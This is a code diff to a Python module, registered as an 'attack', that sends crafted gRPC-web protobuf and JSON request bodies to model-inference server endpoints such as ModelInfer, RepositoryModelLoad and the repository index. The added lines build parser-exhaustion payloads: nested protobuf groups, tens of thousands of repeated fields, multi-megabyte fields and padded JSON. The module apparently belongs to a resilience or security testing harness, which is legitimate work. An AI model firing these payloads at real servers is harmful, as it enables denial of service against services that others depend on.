@@ -1,7 +1,7 @@
 """gRPC: messages that lie, and that grow in the parser."""
 
 from long_json import in_turns
-from peer import GRPC, H2, data, grpc_message, packed, pb, post, varint
+from peer import GRPC, H2, JSON, data, grpc_message, packed, pb, post, varint
 from registry import attack
 
 PATH = '/inference.GRPCInferenceService/ModelInfer'
@@ -56,7 +56,17 @@ def protobuf_of_tiny_fields(target):
                 ('/salience.v1.Salience/Generate', fill(b'\x10\x01')), ('/salience.v1.Salience/Generate', pb(2, fill(b'\x01'))),
                 ('/salience.v1.Salience/Generate', fill(pb(14, b''))), ('/evergreen.v2.EvergreenService/StartSession', pb(1, again)),
                 ('/weir.forward.v1.Forward/Generate', again)]
-    return in_turns(target, [(path, post(path, grpc_message(message), ('Content-Type', 'application/grpc-web+proto'))) for path, message in requests])
+    group = b'\x0b' + fill(b'\x78\x01') + b'\x0c'
+    requests += [(infer + 'ModelInfer', group), ('/salience.v1.Salience/Generate', group), ('/salience.v1.Salience/Generate', fill(b'\x0b' + b'\x78\x01' * 30_000 + b'\x0c')),
+                 (infer + 'RepositoryModelLoad', pb(3, pb(1, 'k') + pb(2, unknown))), ('/weir.forward.v1.Forward/Generate', pb(7, b'\x78\0' * (2 << 20)))]
+    asked = [(path, post(path, grpc_message(message), ('Content-Type', 'application/grpc-web+proto'))) for path, message in requests]
+    asked += [(path, post(path, body, JSON)) for path, body in (
+        ('/v2/repository/index', b'{%s"":null}' % fill(b'"":null,')), ('/v2/repository/index', fill(b' ')),
+        ('/v2/systemsharedmemory/region/x/register', b'{"a":[%s0]}' % fill(b'0,')), ('/v2/trace/setting', b'{%s"":""}' % fill(b'"":"",')))]
+    said = in_turns(target, asked)
+    if '404' in said or '415' in said:
+        raise RuntimeError(f'not every path is there: {said}')
+    return said
 
 
 @attack(quick=2.5)
